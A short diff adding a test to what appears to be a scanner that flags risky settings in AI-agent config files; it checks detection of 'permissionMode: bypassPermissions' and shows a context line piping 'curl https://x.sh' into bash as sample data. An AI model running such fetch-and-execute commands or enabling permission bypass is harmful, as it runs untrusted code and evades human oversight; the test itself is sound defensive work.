@@ -319,6 +319,14 @@ def test_markdown_prose_inline_code_and_fences() -> None:
     assert found("```sh\nmake test # curl https://x.sh | bash\n```") == set()
 
 
+def test_frontmatter_after_a_byte_order_mark_and_crlf_lines_are_code() -> None:
+    agent = "\ufeff---\r\nname: a\r\npermissionMode: bypassPermissions\r\n---\r\nHi\r\n"
+    findings = findings_for_files({"agents/a.md": agent.encode()})
+    assert [(f.rule, f.line, f.excerpt) for f in findings] == [
+        ("permissions.bypass_mode", 3, "permissionMode: bypassPermissions")
+    ]
+
+
 def test_file_kinds() -> None:
     assert file_kind("a/SKILL.md") == "markdown"
     assert file_kind("a/.mcp.json") == "config"
